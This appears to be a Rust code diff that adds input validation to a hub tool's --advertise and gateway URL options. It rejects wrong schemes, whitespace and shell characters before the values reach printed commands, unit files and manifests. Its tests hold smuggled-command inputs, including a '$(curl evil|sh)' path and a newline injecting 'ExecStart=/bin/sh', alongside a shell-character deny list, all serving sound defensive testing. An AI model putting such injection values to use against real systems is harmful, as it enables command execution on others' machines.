@@ -260,7 +260,7 @@ pub struct HubArgs {
     pub gateway: SocketAddr,
     /// Tunnel URL printed in join commands, when agents see the hub under
     /// another address (NAT, ingress, wss://).
-    #[arg(long, value_name = "URL")]
+    #[arg(long, value_name = "URL", value_parser = parse_advertise)]
     pub advertise: Option<String>,
     /// Gateway URL written into kubeconfigs, when operators see it under
     /// another address (https://HOST[:PORT][/PATH]).
@@ -795,6 +795,33 @@ pub const DEFAULT_GATEWAY: &str = "0.0.0.0:9443";
 /// kubectl takes a server without a scheme). kubectl sends operators'
 /// tokens (and the local admin's) to it: `http://` would put them on the
 /// wire in the clear.
+/// `--advertise`: a `ws://` or `wss://` URL with a host, as join commands,
+/// unit files and manifests carry it.
+fn parse_advertise(s: &str) -> Result<String, String> {
+    let s = s.trim();
+    let u = url::Url::parse(s).map_err(|e| {
+        format!(
+            "'{}' is not a URL ({e}): give ws://HOST:PORT/tunnel or wss://HOST[:PORT]/PATH, the tunnel as agents reach it",
+            crate::tunnel::shown(s)
+        )
+    })?;
+    if !matches!(u.scheme(), "ws" | "wss") || u.host_str().is_none_or(str::is_empty) {
+        return Err(format!(
+            "'{}' is not a ws:// or wss:// URL with a host: agents dial the tunnel over WebSocket",
+            crate::tunnel::shown(s)
+        ));
+    }
+    if s.chars()
+        .any(|c| c.is_whitespace() || c.is_control() || "$`\"'\\;|&<>(){}".contains(c))
+    {
+        return Err(format!(
+            "'{}' holds white space, a control character or a shell character: give the tunnel's URL as agents reach it",
+            crate::tunnel::shown(s)
+        ));
+    }
+    Ok(s.to_string())
+}
+
 fn parse_gateway_url(s: &str) -> Result<String, String> {
     let s = s.trim();
     let with_scheme;
@@ -822,6 +849,17 @@ fn parse_gateway_url(s: &str) -> Result<String, String> {
     {
         return Err(format!(
             "'{s}' carries credentials, a query or a fragment: give https://HOST[:PORT][/PATH] only"
+        ));
+    }
+    // The URL parser drops tabs and newlines and keeps spaces and shell
+    // characters in a path; the text goes into printed commands, unit
+    // files and manifest comments as given.
+    if s.chars()
+        .any(|c| c.is_whitespace() || c.is_control() || "$`\"'\\;|&<>(){}".contains(c))
+    {
+        return Err(format!(
+            "'{}' holds white space, a control character or a shell character: give https://HOST[:PORT][/PATH] as operators reach it",
+            crate::tunnel::shown(s)
         ));
     }
     Ok(s.to_string())
@@ -1164,8 +1202,23 @@ mod tests {
             "http://hub.corp:9443",
             "https://admin:pw@hub.corp",
             "https://hub.corp/?x=1",
+            "https://hub.corp/$(curl evil|sh)",
+            "https://hub.corp/a b",
+            "https://hub.corp\napiVersion: v1",
         ] {
             assert!(parse_gateway_url(bad).is_err(), "{bad}");
+        }
+        assert_eq!(
+            parse_advertise("wss://hub.corp/tunnel").unwrap(),
+            "wss://hub.corp/tunnel"
+        );
+        for bad in [
+            "https://hub.corp",
+            "wss://hub.corp/t\nExecStart=/bin/sh",
+            "wss://hub.corp/$(x)",
+            "hub.corp:7443",
+        ] {
+            assert!(parse_advertise(bad).is_err(), "{bad}");
         }
         assert!(parse_gateway_url("http://hub.corp:9443")
             .unwrap_err()
